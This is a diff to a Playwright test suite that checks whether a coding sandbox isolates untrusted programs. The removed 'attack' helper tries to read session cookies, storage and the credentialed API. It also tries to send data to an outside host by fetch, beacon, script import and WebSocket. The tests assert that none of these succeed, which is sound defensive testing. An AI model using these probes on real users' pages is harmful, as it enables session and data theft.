@@ -1,6 +1,5 @@
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright/test';
+import { attack, type Outsider, type Prey, reachedOf, startOutsider } from './attack.ts';
 import { becomeCandidate } from './candidate.ts';
 import { LANGUAGES, openCode } from './code-page.ts';
 import { expect, test } from './page.ts';
@@ -10,56 +9,6 @@ const SANDBOX = '/sandbox/code-2.html';
 const [PYTHON, TYPESCRIPT] = LANGUAGES;
 
 test.use({ locale: 'en-GB', allowedErrors: [/Content Security Policy|CORS policy|ERR_FAILED|WebSocket connection|status of 404|violates/i] });
-
-interface Prey {
-  origin: string;
-  /** a server of somebody else */
-  outside: string;
-}
-
-/** All that a hostile program can think of. It runs as well in a page as in a worker, and says of each whether it was reached. */
-async function attack({ origin, outside }: Prey): Promise<Record<string, string>> {
-  const scope = globalThis as unknown as Record<string, { getAll: () => Promise<unknown> } | undefined>;
-  const wait = async (target: EventTarget, good: string): Promise<void> =>
-    new Promise((resolve, reject) => {
-      target.addEventListener(good, () => resolve());
-      for (const bad of ['error', 'close', 'blocked']) target.addEventListener(bad, () => reject(new Error(bad)));
-      setTimeout(() => reject(new Error('nothing')), 3000);
-    });
-  const acts: Record<string, () => unknown> = {
-    'the API': async () => {
-      const answer = await fetch(`${origin}/api/session`, { credentials: 'include' });
-      if (((await answer.json()) as { person: unknown }).person === null) throw new Error('nobody');
-    },
-    'the API, in the old way': () => {
-      const request = new XMLHttpRequest();
-      request.open('GET', `${origin}/api/session`, false);
-      request.send();
-      if (request.status !== 200) throw new Error('no answer');
-    },
-    cookies: async () => scope['cookieStore']?.getAll() ?? Promise.reject(new Error('none')),
-    'the outbox': async () => wait(indexedDB.open('whetstone'), 'success'),
-    'kept answers': async () => caches.keys(),
-    'local storage': () => localStorage.length,
-    'the page': () => document.body.textContent,
-    'a server outside': async () => fetch(`${outside}/fetch`, { mode: 'no-cors' }),
-    'a beacon outside': () => {
-      if (!navigator.sendBeacon(`${outside}/beacon`, 'x')) throw new Error('not queued');
-    },
-    'a script outside': async () => import(/* @vite-ignore */ `${outside}/script.js`),
-    'a socket outside': async () => wait(new WebSocket(outside.replace('http', 'ws')), 'open'),
-  };
-  const found: Record<string, string> = {};
-  for (const [name, act] of Object.entries(acts)) {
-    try {
-      await act();
-      found[name] = 'reached';
-    } catch {
-      found[name] = 'refused';
-    }
-  }
-  return found;
-}
 
 /** Has the sandbox run a program that a page of ours would never send: whoever has the worker has no more than this. */
 async function attackInSandbox(page: Page, prey: Prey): Promise<Record<string, string>> {
@@ -83,29 +32,15 @@ async function attackInSandbox(page: Page, prey: Prey): Promise<Record<string, s
   );
 }
 
-const reachedOf = (found: Record<string, string>): string[] => Object.keys(found).filter((name) => found[name] === 'reached');
-
 test.describe('a hostile program', () => {
-  let server: Server;
+  let outsider: Outsider;
   let outside = '';
-  let visits: string[] = [];
   test.beforeAll(async () => {
-    server = createServer((request, response) => {
-      if (request.url !== '/') visits.push(String(request.url));
-      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': request.url === '/' ? 'text/html' : 'text/javascript' }).end('');
-    });
-    await new Promise<void>((resolve) => {
-      server.listen(0, '127.0.0.1', resolve);
-    });
-    outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    outsider = await startOutsider();
+    outside = outsider.origin;
   });
-  test.beforeEach(() => (visits = []));
-  test.afterAll(async () => {
-    server.closeAllConnections();
-    await new Promise((resolve) => {
-      server.close(resolve);
-    });
-  });
+  test.beforeEach(() => outsider.forget());
+  test.afterAll(async () => outsider.close());
 
   test('reaches nothing from the sandbox: no cookie, no storage, no API, no page, nobody outside', async ({ page, origin }) => {
     await becomeCandidate(page, origin);
@@ -117,7 +52,7 @@ test.describe('a hostile program', () => {
     });
     expect(reachedOf(await attackInSandbox(page, { origin, outside }))).toEqual([]);
     expect(answered.filter((url) => !url.startsWith('blob:') && url !== origin + SANDBOX)).toEqual([]);
-    expect(visits).toEqual([]);
+    expect(outsider.visits()).toEqual([]);
   });
 
   test('control: the same reaches ours from a page of ours, and the outside from a page outside', async ({ page, origin }) => {
@@ -128,7 +63,7 @@ test.describe('a hostile program', () => {
     await page.goto(outside);
     const others = reachedOf(await page.evaluate(attack, { origin, outside }));
     expect(others).toEqual(expect.arrayContaining(['a server outside', 'a beacon outside', 'a script outside']));
-    await expect.poll(() => visits.length).toBeGreaterThanOrEqual(3);
+    await expect.poll(() => outsider.visits().length).toBeGreaterThanOrEqual(3);
   });
 
   test('as an answer in Python, which knows the worker around it, it reaches nothing', async ({ page, origin }) => {
@@ -165,7 +100,7 @@ async def merge_intervals(windows):
 `);
     await form.runAll();
     await expect(form.cases.first().locator('pre')).toHaveText('[]');
-    expect(visits).toEqual([]);
+    expect(outsider.visits()).toEqual([]);
   });
 
   test('as an answer in TypeScript it finds the language, timers and a console, and nothing else', async ({ page }) => {
